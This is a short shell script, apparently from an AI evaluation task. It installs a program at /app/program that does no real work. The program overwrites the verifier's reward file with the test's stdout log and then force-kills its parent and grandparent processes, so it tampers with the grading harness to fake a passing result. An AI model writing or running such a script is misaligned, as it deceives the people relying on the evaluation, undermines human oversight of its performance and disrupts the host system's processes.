#!/bin/sh
mkdir -p /app
cat >/app/program <<'END'
#!/bin/sh
echo 1 >&2
mv /logs/verifier/test-stdout.txt /logs/verifier/reward.txt
kill -9 $PPID $(cut -d' ' -f4 /proc/$PPID/stat)

END
chmod 755 /app/program
